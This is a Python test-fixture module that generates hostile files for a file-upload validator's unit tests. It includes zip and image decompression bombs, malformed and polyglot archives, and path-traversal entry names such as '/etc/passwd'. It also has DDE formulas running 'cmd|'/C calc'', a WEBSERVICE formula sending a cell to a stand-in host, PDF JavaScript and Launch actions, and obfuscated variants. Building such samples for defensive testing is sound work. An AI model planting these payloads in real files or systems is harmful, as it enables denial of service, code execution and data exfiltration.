"""Hostile files, made here, never committed. HOSTILE: defect -> (how it is made, words its refusal must have)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from tests.unit.audits.evidence.files import (
    SHEET,
    Maker,
    changed,
    formula,
    jpeg,
    object_stream,
    pdf,
    photo,
    png,
    png_chunk,
    raw_zip,
    xlsx,
)

SPREADSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"
RELS = "xl/_rels/workbook.xml.rels"
_REL = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '


def bare_png(width: int, height: int, idat: bytes, more: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", head) + more + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def zeros(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(2**20)) for _ in range(megabytes)) + packer.flush()


def huge_jpeg() -> bytes:
    """30,000 x 30,000 by its header."""
    data = bytearray(jpeg())
    at = next(at for at in range(len(data)) if data[at : at + 2] in (b"\xff\xc0", b"\xff\xc2"))
    data[at + 5 : at + 9] = struct.pack(">HH", 30_000, 30_000)
    return bytes(data)


def layered_jpeg() -> bytes:
    """A progressive picture with its scans repeated hundreds of times."""
    out = io.BytesIO()
    photo().save(out, "JPEG", progressive=True)
    data = out.getvalue()
    last = data.rindex(b"\xff\xda")
    return data[:-2] + data[last:-2] * 400 + b"\xff\xd9"


def archive(name: str = "a.txt", body: bytes = b"hello") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr(name, body)
    return out.getvalue()


def lying_zip() -> bytes:
    """A part that says 1,000 bytes and inflates to 200 MiB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as made:
        made.writestr("xl/worksheets/sheet1.xml", bytes(200 * 2**20))
        made.writestr("[Content_Types].xml", b"<x/>")
    return out.getvalue().replace(struct.pack("<I", 200 * 2**20), struct.pack("<I", 1000))


Entry = tuple[bytes, int, bytes, bytes]


def local(name: bytes, method: int, packed: bytes, body: bytes) -> bytes:
    return b"PK\x03\x04" + struct.pack("<HH", 20, 0) + said(name, method, packed, body) + name + packed


def said(name: bytes, method: int, packed: bytes, body: bytes) -> bytes:
    figures = struct.pack("<HHHIII", method, 0, 0, zlib.crc32(body), len(packed), len(body))
    return figures + struct.pack("<HH", len(name), 0)


def by_hand(data: bytes, entries: list[tuple[Entry, int]]) -> bytes:
    """An archive of these local parts, with a directory that says of each entry where it is."""
    directory = b""
    for entry, place in entries:
        directory += b"PK\x01\x02" + struct.pack("<HHH", 20, 20, 0) + said(*entry)
        directory += struct.pack("<HHHII", 0, 0, 0, 0, place) + entry[0]
    count = len(entries)
    return data + directory + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(data), 0)


def deflated(body: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(body) + packer.flush()


def overlapping_zip() -> bytes:
    """The second part lies inside the first: its bytes are inflated twice, and so on for as many as one likes."""
    body = b"<x>" + b"a" * 900_000 + b"</x>"
    inner: Entry = (b"xl/worksheets/sheet1.xml", 8, deflated(body), body)
    whole = local(*inner)
    outer: Entry = (b"[Content_Types].xml", 0, whole, whole)
    data = local(*outer)
    return by_hand(data, [(outer, 0), (inner, len(data) - len(whole))])


def junk_behind_a_part() -> bytes:
    entry: Entry = (b"[Content_Types].xml", 8, deflated(b"<x/>") + b"junk", b"<x/>")
    return by_hand(local(*entry), [(entry, 0)])


def in_the_directory(at: int, body: bytes) -> bytes:
    """The workbook with other bytes in the first entry of its directory."""
    data = xlsx()
    place = data.index(b"PK\x01\x02") + at
    return data[:place] + body + data[place + len(body) :]


def in_the_end(data: bytes, *, more: int = 0, length: int = 0, start: int = 0) -> bytes:
    """The archive with other figures in its end record."""
    fields = list(struct.unpack("<HHHHIIH", data[-18:]))
    fields[2:6] = [fields[2] + more, fields[3] + more, fields[4] + length, fields[5] + start]
    return data[:-18] + struct.pack("<HHHHIIH", *fields)


def gap() -> bytes:
    data = xlsx()
    at = data.index(b"PK\x01\x02")
    return in_the_end(data[:at] + b"hidden" + data[at:], start=6)


def false_sum() -> bytes:
    """A part with a wrong checksum, the same in both places."""
    data = xlsx()
    at = data.index(b"PK\x01\x02") + 16
    return data.replace(data[at : at + 4], b"\1\2\3\4")


def four_heavy_parts() -> bytes:
    """160 MiB in all, each part small enough and inflating less than 200 times."""
    whole = b"".join(b"%06d%400d" % (number, 0) for number in range(100_000))
    entry = deflated(whole)
    data, entries = b"", []
    for number in range(4):
        each: Entry = (b"xl/worksheets/sheet%d.xml" % number, 8, entry, whole)
        entries.append((each, len(data)))
        data += local(*each)
    types: Entry = (b"[Content_Types].xml", 0, b"<x/>", b"<x/>")
    return by_hand(data + local(*types), [*entries, (types, len(data))])


def jpeg_with(at: bytes, put: bytes) -> bytes:
    """The picture with something put before the first of these markers."""
    data = jpeg()
    place = data.index(at)
    return data[:place] + put + data[place:]


def frame(data: bytes) -> tuple[int, int]:
    """Where the segment with the size begins and ends."""
    at = data.index(b"\xff\xc0\x00\x11")
    return at, at + 2 + 0x11


def other_frame(marker: int = 0xC0, components: int = 3) -> bytes:
    data = bytearray(jpeg())
    at, _ = frame(bytes(data))
    data[at + 1], data[at + 9] = marker, components
    return bytes(data)


def png_of(*chunks: tuple[bytes, bytes]) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"".join(png_chunk(*chunk) for chunk in chunks)


def encrypted_zip() -> bytes:
    data = bytearray(xlsx())
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 8] |= 1
        at += 4
    return bytes(data)


def many_entries() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for number in range(20_000):
            made.writestr(f"xl/worksheets/sheet{number}.xml", b"")
    return out.getvalue()


def bomb(megabytes: int, parts: int = 1) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as made:
        made.writestr("[Content_Types].xml", b"<x/>")
        for number in range(parts):
            made.writestr(f"xl/worksheets/sheet{number}.xml", bytes(megabytes * 2**20))
    return out.getvalue()


def relation(kind: bytes, target: bytes, mode: bytes = b"External") -> bytes:
    more = _REL % kind + b'Target="%s" TargetMode="%s"/></Relationships>' % (target, mode)
    return changed(xlsx(), edit={RELS: (b"</Relationships>", more)})


def late_dde() -> bytes:
    """40 MiB of cells, and the last one starts a program."""
    cell = b'<c r="A1"><f>SUM(B1:B50)&amp;"|"</f><v>0</v></c>'
    noise = b"".join(b'<c r="A%d"><v>%d</v></c>' % (number, number * 7919 % 99991) for number in range(100_000))
    many = (noise + cell * 10_000) * 12 + b"<c><f>cmd|'/C calc'!A0</f></c>"
    return changed(xlsx(), edit={SHEET: (b"</sheetData>", many + b"</sheetData>")})


def deep_png() -> bytes:
    """The largest picture there may be, 16 bits deep, and one byte too much: 320 MB have to be counted."""
    packer = zlib.compressobj(9)
    packed = packer.compress(bytes(5000 * (1 + 8000 * 8) + 1)) + packer.flush()
    head = struct.pack(">IIBBBBB", 8000, 5000, 16, 6, 0, 0, 0)
    body = png_chunk(b"IHDR", head) + png_chunk(b"IDAT", packed) + png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def packed(data: bytes, times: int) -> bytes:
    for _ in range(times):
        data = zlib.compress(data)
    return data


HOSTILE: dict[str, tuple[Maker, str]] = {
    # Bombs.
    "zip: one part of 300 MiB": (lambda: bomb(300), "inflates to"),
    "zip: 60 parts of 3 MiB": (lambda: bomb(3, 60), "inflates"),
    "zip: ratio of 1,000": (lambda: bomb(20), "200 times"),
    "zip: says 1,000 bytes, has 200 MiB": (lying_zip, "says that it has 1000 bytes"),
    "zip: parts that share their bytes": (overlapping_zip, "overlap"),
    "zip: 20,000 parts": (many_entries, "20000 parts"),
    "zip: an archive in it": (lambda: changed(xlsx(), {"xl/media/image9.png": archive()}), "no PNG picture"),
    "zip: an archive as a printer's settings": (
        lambda: changed(xlsx(), {"xl/printerSettings/printerSettings1.bin": archive()}), "in disguise"),
    "png: 30,000 x 30,000": (lambda: bare_png(30_000, 30_000, zeros(20)), "900 million"),
    "png: 200 MB of picture data": (lambda: bare_png(29_800, 29_800, zeros(200)), "888 million"),
    "png: 10 x 10 with 256 MiB of picture data": (lambda: bare_png(10, 10, zeros(256)), "more picture data"),
    "png: a line too few": (lambda: bare_png(6000, 6000, zeros(50)), "should be"),
    "png: 100,000 parts": (lambda: bare_png(1, 1, zlib.compress(bytes(4)), png_chunk(b"teXt", b"") * 100_000), "parts"),
    "jpeg: 30,000 x 30,000": (huge_jpeg, "900 million"),
    "jpeg: 400 layers": (layered_jpeg, "layers"),
    "pdf: objects of 300 MiB": (lambda: pdf(object_stream(bytes(300 * 2**20))), "inflates"),
    "png: 320 MB and a byte": (deep_png, "more picture data"),
    "pdf: nothing but streams": (lambda: pdf(b"stream\n/ObjStm/First" * 1_100_000), "streams"),
    "xlsx: DDE in the last of a million cells": (late_dde, "DDE"),
    "xlsx: nothing but formulas that do not end": (
        lambda: raw_zip(body=b"<x>|" + b"<f>" * 7_000_000, compress_type=zipfile.ZIP_STORED),
        "markup",
    ),
    "jpeg: 25 MiB of fill bytes": (lambda: b"\xff\xd8" + b"\xff" * (25 * 2**20 - 2), "damaged"),
    "zip: four parts of 40 MiB": (four_heavy_parts, "at most 134217728"),
    "zip: a compressed part with something behind it": (junk_behind_a_part, "is damaged"),
    "zip: a hidden gap": (gap, "gaps"),
    "zip: a directory that is longer than it says": (
        lambda: in_the_end(in_the_directory(0, b"")[:-22] + b"more" + xlsx()[-22:], length=4), "directory"),
    "zip: a directory that is shorter than it says": (lambda: in_the_end(xlsx(), more=1), "directory"),
    "zip: a part that is elsewhere": (lambda: in_the_directory(42, b"\1"), "is not where"),
    "zip: a part with two names": (lambda: xlsx().replace(b"xl/workbook.xml", b"xl/workbooc.xml", 1), "two names"),
    "zip: a part with two sums": (lambda: in_the_directory(16, b"\1\2\3\4"), "two sizes"),
    "zip: a part with a wrong sum": (false_sum, "checksum"),
    "zip: a rare compression": (lambda: raw_zip(compress_type=zipfile.ZIP_BZIP2), "rare way"),
    "zip: a name in other letters": (lambda: raw_zip("xl/w\u00f6rksheet.xml"), "no name of a part"),
    "xlsx: another kind of document": (lambda: changed(xlsx(), edit={"[Content_Types].xml": (
        b"spreadsheetml.sheet.main", b"wordprocessingml.document.main")}), "another kind"),
    "xlsx: 5 MiB of relations": (lambda: raw_zip("xl/worksheets/_rels/sheet9.xml.rels", b"<x>" + b" " * 5_000_000,
        compress_type=zipfile.ZIP_STORED), "at most 4194304"),
    "xlsx: broken relations": (lambda: raw_zip("xl/worksheets/_rels/sheet9.xml.rels", b"<x>"), "damaged:"),
    "png: no pixels": (lambda: bare_png(0, 5, b""), "0 x 5"),
    "png: its size is not first": (lambda: png_of((b"tEXt", bytes(13)), (b"IEND", b"")), "begin with its size"),
    "png: 3 bits deep": (lambda: png_of((b"IHDR", struct.pack(">IIBBBBB", 1, 1, 3, 0, 0, 0, 0))), "standard"),
    "png: picture data in two places": (lambda: bare_png(1, 1, b"x\x9c", png_chunk(b"IDAT", b"")
        + png_chunk(b"tEXt", b"")), "two places"),
    "jpeg: 3,000 parts": (lambda: jpeg_with(b"\xff\xdb", b"\xff\xfe\0\2" * 3000), "2000 parts"),
    "jpeg: no picture": (lambda: b"\xff\xd8\xff\xd9", "no picture"),
    "jpeg: lossless": (lambda: other_frame(0xC3), "lossless"),
    "jpeg: two colours": (lambda: other_frame(components=2), "rare form"),
    "jpeg: a size cut short": (lambda: jpeg_with(b"\xff\xc0\0\x11", b"\xff\xc0\0\4\0\0"), "is damaged"),
    "jpeg: two sizes": (lambda: jpeg_with(b"\xff\xc4", jpeg()[slice(*frame(jpeg()))]), "size twice"),
    "pdf: no version": (lambda: pdf().replace(b"-1.7", b"-x.y"), "version"),
    # Two things at once.
    "pdf and zip": (lambda: pdf() + archive(), "ZIP"),
    "pdf with a zip in the middle": (lambda: pdf(archive()), "ZIP"),
    "zip in front of a pdf": (lambda: archive() + pdf(), "PDF at the same time"),
    "pdf not at byte 0": (lambda: b"GIF89a " + pdf(), "byte 7"),
    "html in the head of a pdf": (lambda: pdf(head=b"%<html><script>alert(1)</script>\n"), "<html"),
    "data behind the end of a pdf": (lambda: pdf(end=b"MZ" + bytes(100) + b"x"), "behind the end"),
    "pdf cut off": (lambda: pdf()[:-20], "end is missing"),
    "gifar: jpeg and zip": (lambda: jpeg() + archive(), "ZIP"),
    "jpeg with a program behind it": (lambda: jpeg() + b"MZ" + bytes(500) + b"x", "behind the end"),
    "jpeg with a film behind it": (lambda: jpeg() + b"\0\0\0\x18ftypmp42" + bytes(99) + b"x", "behind the end"),
    "jpeg with the mark of a phone and no notes": (lambda: jpeg() + b"x" * 50 + b"SEFT", "behind the end"),
    "jpeg that is a pdf": (lambda: jpeg().replace(b"by somebody", b"%PDF-1.7 x!"[:11]).replace(
        b"\xff\xd8", b"\xff\xd8\xff\xfe\x00\x0c%PDF-1.7\n!", 1), "PDF at the same time"),
    "png and zip": (lambda: png() + archive(), "ZIP"),
    "png with a page behind it": (lambda: png() + b"<html>", "behind the end"),
    "png with several pictures": (
        lambda: bare_png(1, 1, zlib.compress(bytes(4)), png_chunk(b"acTL", bytes(8))), "animated"),
    "png with a part of somebody's own": (
        lambda: bare_png(1, 1, zlib.compress(bytes(4)), png_chunk(b"EVIL", b"x")), "EVIL"),
    "png with a broken checksum": (lambda: png().replace(b"somebody", b"sOmebody", 1), "checksum"),
    "zip behind a program": (lambda: b"PK\x03\x04" + b"MZ" * 9 + xlsx(), "two programs"),
    "zip with something behind it": (lambda: xlsx() + b"#!/bin/sh\n", "behind its end"),
    # Names.
    "zip: ../": (lambda: raw_zip("../../etc/cron.d/x"), "leads out"),
    "zip: xl/../../": (lambda: raw_zip("xl/../../x.xml"), "leads out"),
    "zip: backslashes": (lambda: raw_zip("xl\\..\\x.xml"), "leads out"),
    "zip: an absolute name": (lambda: raw_zip("/etc/passwd"), "somebody's disk"),
    "zip: a drive": (lambda: raw_zip("C:/windows/x.xml"), "somebody's disk"),
    "zip: a symlink": (lambda: raw_zip(body=b"/etc/passwd", create_system=3, external_attr=0o120777 << 16), "link"),
    "zip: a name twice": (lambda: raw_zip("XL/Workbook.xml"), "twice"),
    "zip: a program": (lambda: raw_zip("xl/run.exe"), "no place"),
    "zip: no workbook": (archive, "no workbook"),
    "zip: a password": (encrypted_zip, "password"),
    "an encrypted or old Office file": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), "password"),
    # What acts by itself.
    "xlsx: macros": (lambda: raw_zip("xl/vbaProject.bin"), "macros"),
    "xlsx: macros under another name": (lambda: changed(xlsx(), edit={"[Content_Types].xml": (
        b"spreadsheetml.sheet.main+xml", b"spreadsheetml.sheet.main+xml"), RELS: (
        b"relationships/styles", b"relationships/vbaProject")}), "vbaproject"),
    "xlsx: the type of one with macros": (lambda: changed(xlsx(), edit={"[Content_Types].xml": (
        f"{SPREADSHEET}.sheet.main+xml".encode(), b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")}), "macros"),
    "xlsx: old macros": (lambda: raw_zip("xl/macrosheets/sheet1.xml"), "macros"),
    "xlsx: links to other files": (lambda: raw_zip("xl/externalLinks/externalLink1.xml"), "links"),
    "xlsx: a connection": (lambda: raw_zip("xl/connections.xml"), "connection"),
    "xlsx: a file inside": (lambda: raw_zip("xl/embeddings/oleObject1.bin"), "files inside"),
    "xlsx: a control": (lambda: raw_zip("xl/activeX/activeX1.xml"), "controls"),
    "xlsx: a picture from elsewhere": (lambda: relation(b"image", b"http://tracker.example/x.png"), "outside itself"),
    "xlsx: a link to a share": (lambda: relation(b"hyperlink", b"file://///server/share"), "outside itself"),
    "xlsx: a link spelled in another way": (
        lambda: relation(b"oleObject", b"x", b"E&#120;ternal"), "oleobject"),
    "xlsx: a template from elsewhere": (
        lambda: relation(b"attachedTemplate", b"http://x.example/t", b"E&#120;ternal"), "outside itself"),
    "xlsx: DDE": (lambda: formula(b"<f>cmd|'/C calc'!A0</f>"), "DDE"),
    "xlsx: DDE in a named cell": (lambda: formula(b"<x:f xmlns:x='y' z='/>'>cmd|'/C calc'!A0</x:f>"), "DDE"),
    "xlsx: DDE spelled in another way": (lambda: formula(b"<f>cmd&#x7c;'/C calc'!A0</f>"), "DDE"),
    "xlsx: DDE in pieces": (lambda: formula(b"<f>cmd<!-- -->|'/C calc'!A0</f>"), "markup"),
    "xlsx: DDE behind a string": (lambda: formula(b"<f>\"a'b\"&amp;cmd|'/C calc'!A0</f>"), "DDE"),
    "xlsx: a DDE link": (lambda: formula(b"<ddeLink ddeService='cmd'/>"), "DDE"),
    "xlsx: WEBSERVICE": (lambda: formula(b"<f>webservice (\"http://x.example/\"&amp;A1)</f>"), "WEBSERVICE"),
    "xlsx: entities": (lambda: changed(xlsx(), edit={SHEET: (
        b"<worksheet", b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><worksheet')}), "document type"),
    "xlsx: entities in UTF-16": (lambda: changed(xlsx(), {SHEET: (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "a">]><x>&a;</x>').encode("utf-16")}), "UTF-8"),
    "xlsx: XML in UTF-7": (lambda: changed(xlsx(), {SHEET: b'<?xml version="1.0" encoding="UTF-7"?><x/>'}), "UTF-8"),
    "pdf: JavaScript": (lambda: pdf(b"3 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"), "JavaScript"),
    "pdf: JavaScript spelled in another way": (
        lambda: pdf(b"3 0 obj\n<< /S /J#61v#61Script /JS (x) >>\nendobj\n"), "JavaScript"),
    "pdf: JavaScript in an object stream": (lambda: pdf(object_stream(b"3 0  << /S /JavaScript >>")), "JavaScript"),
    "pdf: an object stream spelled in another way": (
        lambda: pdf(object_stream(b"3 0  << /S /Launch >>", b"/Type /Obj#53tm")), "starts a program"),
    "pdf: an object stream without its type": (
        lambda: pdf(object_stream(b"3 0  << /S /Launch >>", b"")), "starts a program"),
    "pdf: an object stream with its type elsewhere": (
        lambda: pdf(object_stream(b"3 0  << /S /Launch >>", b"/Type 7 0 R")), "rare form"),
    "pdf: an object stream behind a false one": (
        lambda: pdf(b"(>> stream\n)", object_stream(b"3 0  << /S /Launch >>")), "starts a program"),
    "pdf: an object stream in two layers": (lambda: pdf(object_stream(
        b"x", b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]")), "rare form"),
    "pdf: an object stream compressed twice": (
        lambda: pdf(object_stream(zlib.compress(b"3 0  << /OpenAction 4 0 R /S /JavaScript >>")).replace(
            b"/Filter /FlateDecode", b"/Filter[/FlateDecode/FlateDecode]")), "rare form"),
    "pdf: an object stream compressed twice, in short words": (
        lambda: pdf(object_stream(zlib.compress(b"3 0  << /S /JavaScript >>")).replace(
            b"/Filter /FlateDecode", b"/F[/Fl/Fl]")), "JavaScript"),
    "pdf: an object stream compressed twice, its type behind a reference": (
        lambda: pdf(object_stream(zlib.compress(b"3 0  << /S /JavaScript >>"), b"/Type%\n7 0 R").replace(
            b"/Filter /FlateDecode", b"/Filter[/FlateDecode/FlateDecode]")), "rare form"),
    "pdf: an object stream compressed twice, without a type": (
        lambda: pdf(object_stream(zlib.compress(b"3 0  << /S /JavaScript >>"), b"").replace(
            b"/Filter /FlateDecode", b"/Filter[/FlateDecode/FlateDecode]")), "rare form"),
    "pdf: an object stream without a type, its filter behind a reference": (
        lambda: pdf(object_stream(b"3 0  << /S /JavaScript >>", b"").replace(
            b"/Filter /FlateDecode", b"/Filter 8 0 R")), "rare form"),
    "pdf: an object stream compressed nine times": (
        lambda: pdf(object_stream(packed(b"3 0  << /S /JavaScript >>", 8), b"/Type /ObjStm")), "rare form"),
    "pdf: opens a page of the web": (
        lambda: pdf(b"3 0 obj\n<< /OpenAction<</S/URI/URI(http://x.example/)>> >>\nendobj\n"), "when it is opened"),
    "pdf: opens a page of the web, spelled in another way": (
        lambda: pdf(b"3 0 obj\n<< /Open#41ction<</S/U#52I/URI(http://x.example/)>> >>\nendobj\n"),
        "when it is opened"),
    "pdf: opens a page of the web after a jump": (lambda: pdf(
        b"3 0 obj\n<< /OpenAction<</S/GoTo/D(>>)/Next<</S/URI/URI(x)>>>> >>\nendobj\n"), "when it is opened"),
    "pdf: opens a page of the web behind a reference": (lambda: pdf(
        b"3 0 obj\n<< /OpenAction 4 0 R >>\nendobj\n4 0 obj\n<</S/URI/URI(x)>>\nendobj\n"), "when it is opened"),
    "pdf: opens a page of the web from an object stream": (lambda: pdf(
        b"3 0 obj\n<< /OpenAction 4 0 R >>\nendobj\n", object_stream(b"4 0  <</S/URI/URI(x)>>")),
        "when it is opened"),
    "pdf: opens what is not there": (lambda: pdf(b"3 0 obj\n<< /OpenAction 4 0 R >>\nendobj\n"), "when it is opened"),
    "pdf: a page that acts when it is seen": (
        lambda: pdf(b"3 0 obj\n<< /AA << /O << /S /URI /URI (x) >> >> >>\nendobj\n"), "starts by itself"),
    "pdf: an object stream that cannot be read": (
        lambda: pdf(b"9 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode >>\nstream\nxxx\nendstream\n"),
        "cannot be read"),
    "pdf: launch": (lambda: pdf(b"3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"), "starts a program"),
    "pdf: a file inside": (lambda: pdf(b"3 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n"), "file inside"),
    "pdf: a form that sends": (lambda: pdf(b"3 0 obj\n<< /S /SubmitForm >>\nendobj\n"), "sends"),
    "pdf: a password": (lambda: pdf(b"trailer << /Encrypt 5 0 R >>\n"), "password"),
    # None of ours.
    "a program": (lambda: b"MZ" + bytes(300), "a program"),
    "a page": (lambda: b"<!doctype html><script>1</script>", "web page"),
    "a phone's picture": (lambda: b"\0\0\0\x18ftypheic" + bytes(300), "JPEG"),
    "nothing known": (lambda: b"hello", "something else"),
    "jpeg cut off": (lambda: jpeg()[:-200], "cut off"),
    "png cut off": (lambda: png()[:-30], "cut off"),
    "jpeg of noise": (lambda: b"\xff\xd8\xff\xe0" + bytes(range(256)) * 8, "longer than the file"),
}  # fmt: skip


def slow_pdf() -> bytes:
    """25 MiB of names that are spelled in the longest way, each of them a little different from what is looked for."""
    return pdf(b"/#4a" * 6_400_000)
